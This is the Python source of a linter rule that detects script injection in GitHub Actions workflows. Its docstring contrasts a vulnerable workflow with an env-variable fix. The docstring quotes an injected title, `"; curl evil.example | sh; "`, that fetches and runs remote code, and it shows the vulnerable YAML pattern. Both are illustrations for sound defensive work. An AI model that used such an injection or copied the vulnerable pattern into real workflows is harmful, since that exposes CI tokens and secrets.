"""A script of a workflow has text in it that somebody outside may choose.

## Why

`${{ … }}` is filled in before the shell reads the script. A branch or a title such as `"; curl
evil.example | sh; "` is then run as a command, with the job's token and secrets.

## Example

```yaml
# file: .github/workflows/greet.yml
on: pull_request_target
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: echo "${{ github.event.pull_request.title }}"
```

## Better

```yaml
# file: .github/workflows/greet.yml
on: pull_request_target
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: echo "$PULL_REQUEST_TITLE"
        env:
          PULL_REQUEST_TITLE: ${{ github.event.pull_request.title }}
```

## Mend

Give the value to the step as a variable (`env:`) and write the variable, between double quotes. The
fix does so where the expression already stands between double quotes in a script for bash.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from seatrial.composefile.tree import ScalarNode
from seatrial.lint.documents import WorkflowDocument
from seatrial.lint.helpers.injection import has_anchors, mended, tainted
from seatrial.lint.helpers.workflows import EXPRESSION, Step, all_steps, line_span
from seatrial.lint.model import Category, Hit, Rule, Severity


def _check(document: WorkflowDocument) -> Iterator[Hit]:
    anchored = has_anchors(document)
    for step in all_steps(document):
        script = _script(step)
        if script is None:
            continue
        parts = EXPRESSION.finditer(script.text)
        # JSON is a literal of JavaScript, whatever is in it; to a shell it is not.
        literal = () if script is step.run else ("toJSON(", "toJson(")
        parts = (part for part in parts if not part["inside"].strip().startswith(literal))
        found = [part for part in parts if _source(document, part)]
        mends = bool(found) and script is step.run and not anchored
        fix = mended(document, step, found) if mends else None
        at = script.span[0]
        for part in found:
            span = line_span(document, script, part[0], at)
            what = f"{_source(document, part)} is filled into the script before the shell reads it"
            yield Hit(span, what, fix=fix)
            # One fix mends all of a step.
            at, fix = span.end, None


def _source(document: WorkflowDocument, part: re.Match[str]) -> str:
    return tainted(document, part["inside"])


def _script(step: Step) -> ScalarNode | None:
    uses = step.uses
    if uses is not None and uses.text.startswith("actions/github-script@"):
        return step.given("script")
    return step.run


RULE = Rule(
    code="SEA602",
    name="script-injection",
    severity=Severity.ERROR,
    category=Category.WORKFLOW,
    mend="give it to the step as a variable (env:) and write the variable in double quotes",
    of=WorkflowDocument,
    check=_check,
)
